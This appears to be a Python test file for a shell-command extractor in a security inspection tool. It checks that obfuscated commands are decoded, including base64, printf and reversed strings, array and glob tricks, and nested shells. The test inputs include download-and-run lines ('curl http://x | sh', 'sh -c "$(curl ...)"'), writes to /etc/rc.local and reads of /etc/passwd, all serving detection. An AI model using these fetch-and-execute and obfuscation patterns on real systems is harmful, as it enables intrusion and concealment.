"""sh/bash commands: every simple command of lists, pipelines, subshells and nested shells."""

from __future__ import annotations

from inspector.commands import Shell, extract_commands
from inspector.commands.shell import shell_script


def commands(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(c.program, c.arguments) for c in extract_commands(text, Shell.SHELL)]


def test_lists_and_pipelines_give_one_command_each() -> None:
    assert commands("curl -s http://x/a && chmod +x a || echo no; cat a | sh") == [
        ("curl", ("-s", "http://x/a")), ("chmod", ("+x", "a")), ("echo", ("no",)), ("cat", ("a",)), ("sh", ())]


def test_quotes_are_removed_and_variables_of_plain_assignments_folded() -> None:
    text = "U=http://x/a\nD='/tmp/.d'\ncurl \"$U\" -o ${D}/k\"$UNKNOWN\" a\\ b"
    assert commands(text) == [("curl", ("http://x/a", "-o", "/tmp/.d/k$UNKNOWN", "a b"))]


def test_a_variable_set_for_one_command_only_is_not_remembered() -> None:
    assert commands("U=1 env\necho $U") == [("env", ()), ("echo", ("$U",))]


def test_substitutions_and_subshells_hold_commands_too() -> None:
    assert [p for p, _ in commands("(cd /tmp; wget -q http://x/a)\necho $(id -u)")] == ["cd", "wget", "echo", "id"]


def test_redirections_follow_the_arguments_of_the_command_they_apply_to() -> None:
    assert commands("cat a | sh 2>/dev/null") == [("cat", ("a",)), ("sh", ("2>", "/dev/null"))]
    assert commands("echo x >> /etc/rc.local") == [("echo", ("x", ">>", "/etc/rc.local"))]


def test_bash_c_runs_its_script_whose_commands_follow_it() -> None:
    (outer, *inner) = extract_commands("sudo bash -lc 'id; curl http://x | sh'", Shell.SHELL)
    assert outer.program == "sudo"
    bash = inner[0]
    assert bash.program == "bash" and shell_script(bash) == "id; curl http://x | sh"
    assert [c.program for c in inner[1:]] == ["id", "curl", "sh"]


def test_a_here_document_fed_to_a_shell_is_a_script() -> None:
    text = "U=http://x/a\nbash <<EOF\ncurl $U | sh\nEOF\ncat <<EOF > /etc/motd\nnot a command\nEOF\n"
    assert commands(text) == [("bash", ("<<", "EOF")), ("curl", ("http://x/a",)), ("sh", ()),
                              ("cat", ("<<", "EOF", ">", "/etc/motd"))]


def test_images_are_usr_bin_for_bare_names_written_paths_and_none_for_builtins() -> None:
    (curl, local, cd) = extract_commands("curl x; /opt/x/run; cd /tmp", Shell.SHELL)
    assert curl.image == "/usr/bin/curl" and local.image == "/opt/x/run" and cd.image == ""
    assert curl.parent_image == "/bin/bash" and curl.shell is Shell.SHELL


def test_offsets_cover_the_command_in_the_text() -> None:
    text = "echo start\n  wget -q http://x/a  # fetch\n"
    wget = extract_commands(text, Shell.SHELL)[1]
    assert text[wget.offset:wget.offset + wget.length] == "wget -q http://x/a"


def test_wrappers_run_the_command_they_are_given() -> None:
    assert commands("nohup /tmp/.x/k -c c.json &")[1] == ("/tmp/.x/k", ("-c", "c.json"))
    assert commands("sudo -u root env A=1 curl http://x")[1:] == [("env", ("A=1", "curl", "http://x")),
                                                                  ("curl", ("http://x",))]


def test_a_nested_shell_without_a_script_is_only_itself() -> None:
    assert commands("bash install.sh --quiet") == [("bash", ("install.sh", "--quiet"))]


def test_sh_c_of_a_download_runs_the_download_inside_it() -> None:
    commands = extract_commands('sh -c "$(curl -fsSL https://example.test/i.sh)"', Shell.SHELL)
    downloads = [c for c in commands if c.program == "curl"]
    assert commands[0].program == "sh" and downloads
    assert "https://example.test/i.sh" in downloads[0].arguments


def test_su_c_runs_its_script_as_a_shell_would() -> None:
    commands = extract_commands("su -l ops -c 'id; touch /tmp/x'", Shell.SHELL)
    assert [c.program for c in commands] == ["su", "id", "touch"]


def test_array_elements_indexed_by_number_are_folded() -> None:
    (command,) = extract_commands("a=(w g e t); ${a[0]}${a[1]}${a[2]}${a[3]} -q x", Shell.SHELL)
    assert (command.program, command.arguments) == ("wget", ("-q", "x"))
    assert extract_commands('b=(cat /etc/hosts); "${b[@]}"', Shell.SHELL)[0].program == "cat /etc/hosts"


def test_ansi_c_strings_and_static_substitutions_are_decoded() -> None:
    assert extract_commands("$'\\x69\\x64' -u", Shell.SHELL)[0].program == "id"
    assert extract_commands("x=$(printf '\\151\\144'); $x", Shell.SHELL)[-1].program == "id"
    assert extract_commands("x=$(printf %s%s i d); $x", Shell.SHELL)[-1].program == "id"
    assert extract_commands('x=$(echo -e "\\x69\\x64"); $x', Shell.SHELL)[-1].program == "id"
    assert extract_commands("x=$(echo di | rev); $x", Shell.SHELL)[-1].program == "id"
    assert extract_commands("x=$(echo aWQ= | base64 -d); $x", Shell.SHELL)[-1].program == "id"


def test_a_substitution_that_reads_the_system_stays_as_written() -> None:
    assert extract_commands("x=$(hostname); $x", Shell.SHELL)[-1].program == "$x"


def test_a_loop_over_literal_values_builds_its_variable() -> None:
    assert extract_commands("for c in i d; do s=$s$c; done; $s", Shell.SHELL)[-1].program == "id"


def test_a_loop_over_too_many_values_is_not_simulated() -> None:
    values = " ".join(["a"] * 300)
    assert extract_commands(f"for c in {values}; do s=$s$c; done; $s", Shell.SHELL)[-1].program != "a" * 300


def test_glob_paths_resolve_against_the_standard_names() -> None:
    (command,) = extract_commands("/???/?at /???/p?ss??", Shell.SHELL)
    assert (command.program, command.arguments) == ("/bin/cat", ("/etc/passwd",))
    assert extract_commands("/???/??n/???n?f x", Shell.SHELL)[0].program == "/usr/bin/printf"
    assert extract_commands("/???/zz?zz", Shell.SHELL)[0].program == "/???/zz?zz"


def test_substitutions_nested_deeper_than_the_limit_are_kept_as_written() -> None:
    nested = "$(echo " * 10 + "id" + ")" * 10
    commands = extract_commands(f"x={nested}; $x", Shell.SHELL)
    assert commands[-1].program != "id"
